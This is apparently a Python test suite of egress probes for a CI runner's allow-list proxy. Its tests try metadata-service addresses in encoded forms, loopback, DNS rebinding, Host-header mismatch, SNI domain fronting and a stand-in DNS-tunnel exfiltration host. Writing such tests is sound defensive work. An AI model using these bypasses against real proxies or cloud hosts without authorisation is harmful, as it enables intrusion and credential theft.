"""Ways out through the runner's proxy, which lets a job reach what the customer's contract names and nothing else.

Each first reaches a host of the contract the same way: a proxy that refuses everything would prove nothing.
"""

import os
import socket
import ssl
from urllib.parse import urlsplit

from probe import NOBODY, Lacking, Refused, any_of, probe

WALL = "allow list of the proxy"
REFUSALS = ("400", "403")
SECONDS = 5


# An alert of TLS: fatal, `access_denied` (RFC 8446, "Alert Protocol").
ALERT, ACCESS_DENIED = 0x15, b"\x02\x31"


def ask(head, then=b""):
    """Sends `head` to the proxy. Returns the status of its answer, or what answers `then` in a tunnel."""
    address = urlsplit(os.environ.get("http_proxy") or os.environ.get("HTTP_PROXY") or "")
    if not address.hostname:
        raise Lacking("there is no proxy")
    with socket.create_connection((address.hostname, address.port), timeout=SECONDS) as connection:
        connection.sendall(head.encode() + b"\r\n\r\n")
        answer = b""
        while b"\r\n\r\n" not in answer:
            more = connection.recv(4096)
            if not more:
                break
            answer += more
        words = answer.split(None, 2)
        if len(words) < 2:
            raise Refused("closed")
        if then and words[1] == b"200":
            connection.sendall(then)
            return connection.recv(4096)
    return words[1].decode()


def get(host, header=None):
    return ask(f"GET http://{host}/ HTTP/1.1\r\nHost: {header or host}\r\nConnection: close")


def connect(pair):
    return ask(f"CONNECT {pair} HTTP/1.1\r\nHost: {pair}")


def through(facts, way, *targets):
    """Tries each target after one that is allowed has worked."""
    allowed = facts["allowed_host"] if way is get else f"{facts['allowed_host']}:443"
    if (status := way(allowed)) != "200":
        raise Lacking(f"`{allowed}` is in the contract, and the proxy answers {status}")

    def attempt(target):
        status = way(target)
        if status != "200":
            raise Refused(status)
        return f"{way.__name__} {target}"

    return any_of(*[lambda target=target: attempt(target) for target in targets])


@probe(WALL, *REFUSALS)
def proxy_to_other_host(facts):
    """asks the proxy for a host that is not in the contract, by name and by address"""
    return through(facts, get, facts["other_host"], facts["internet_v4"])


@probe(WALL, *REFUSALS)
def proxy_tunnel_to_other_host(facts):
    """asks the proxy for a tunnel to a host that is not in the contract, by name and by address"""
    other = [facts["other_host"], facts["internet_v4"], f"[{facts['internet_v6']}]"]
    return through(facts, connect, *[f"{host}:443" for host in other])


@probe(WALL, *REFUSALS)
def proxy_to_strangers_at_aws(facts):
    """asks for tunnels to names below amazonaws.com that anybody can have: a machine, a load balancer, an API"""
    return through(facts, connect, *[f"{host}:443" for host in facts["strangers"]])


@probe(WALL, *REFUSALS)
def proxy_to_iam(facts):
    """asks for tunnels to IAM, which the contract names here, past the answers of the runner"""
    return through(facts, connect, *[f"{host}:{port}" for host in facts["iam"] for port in (443, 8443)])


@probe(WALL, *REFUSALS)
def proxy_to_other_port(facts):
    """asks the proxy for a tunnel to another port of a host that is in the contract"""
    return through(facts, connect, *[f"{facts['allowed_host']}:{port}" for port in (22, 25, 8443)])


@probe(WALL, *REFUSALS)
def proxy_to_metadata(facts):
    """asks the proxy for the metadata service, in every way that its address can be written"""
    v4 = facts["metadata_v4"]
    number = int.from_bytes(socket.inet_aton(v4), "big")
    forms = [v4, f"[{facts['metadata_v6']}]", f"[::ffff:{v4}]", str(number), hex(number), "0251.0376.0251.0376"]
    return through(facts, get, *forms)


@probe(WALL, *REFUSALS)
def proxy_tunnel_to_metadata(facts):
    """asks the proxy for a tunnel to the metadata service and to the machine itself"""
    hosts = [facts["metadata_v4"], f"[{facts['metadata_v6']}]", "127.0.0.1", "[::1]", "localhost", "0.0.0.0"]
    return through(facts, connect, *[f"{host}:{port}" for host in hosts for port in (80, facts["loopback_port"])])


@probe("addresses that the proxy refuses", "403", "502")
def rebinding(facts):
    """asks for a name that the contract has, and whose address its owner has changed to the metadata service"""
    return through(facts, get, facts["rebinding_host"])


@probe("addresses that the proxy refuses", "403", "502")
def rebinding_of_tunnel(facts):
    """asks for a tunnel to a name that the contract has, and whose address is the machine's loopback now"""
    return through(facts, connect, f"{facts['rebinding_host']}:443", f"{facts['loopback_host']}:443")


@probe("addresses that the proxy refuses", "closed", "ECONNRESET", "EPIPE")
def rebinding_of_pair(facts):
    """connects to a `host:port` of the contract past the proxy, whose address is that of the metadata service now"""

    def ask_pair(host):
        with socket.create_connection((host, facts["pair_port"]), timeout=SECONDS) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            return connection.recv(100)

    if not ask_pair(facts["pair_host"]):
        raise Lacking(f"`{facts['pair_host']}` is in the contract, and does not answer")
    if not ask_pair(facts["rebinding_pair_host"]):
        raise Refused("closed")
    return "the metadata service"


@probe(WALL, "400", "403")
def proxy_by_host_header(facts):
    """names a host of the contract in the address, and another one in the header, and the other way round"""
    allowed, other = facts["allowed_host"], facts["other_host"]

    def by_path():
        status = ask(f"GET / HTTP/1.1\r\nHost: {other}\r\nConnection: close")
        if status != "200":
            raise Refused(status)
        return f"GET / for {other}"

    def by_name():
        status = get(other, header=allowed)
        if status != "200":
            raise Refused(status)
        return f"GET {other} as {allowed}"

    return any_of(by_path, by_name)


# Without a box, nobody reads what goes through a tunnel.
@probe("server name that the proxy reads", "access_denied", reached_by=NOBODY)
def proxy_by_server_name(facts):
    """asks for a tunnel to a host of the contract, and in it for another host of the same provider (domain fronting)"""
    allowed = facts["allowed_host"]
    answer = ask(f"CONNECT {allowed}:443 HTTP/1.1\r\nHost: {allowed}:443", hello(allowed))
    if isinstance(answer, str) or not answer or answer[0] == ALERT:
        raise Refused(f"also for `{allowed}` itself: {answer}")
    answer = ask(f"CONNECT {allowed}:443 HTTP/1.1\r\nHost: {allowed}:443", hello(facts["other_host"]))
    if answer[:1] == bytes([ALERT]) and answer.endswith(ACCESS_DENIED):
        raise Refused("access_denied")
    return f"TLS for `{facts['other_host']}` went through, and {answer[:40]} came back"


def hello(name):
    """Returns the first message of TLS to a server of that name."""
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(received, sent, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()


@probe("the proxy resolves what the contract names only", "403")
def dns_tunnel_by_proxy(facts):
    """asks the proxy for a name that carries data; the harness looks whether the name server was asked"""
    return through(facts, connect, "stolen-by-proxy.tunnel.example:443")
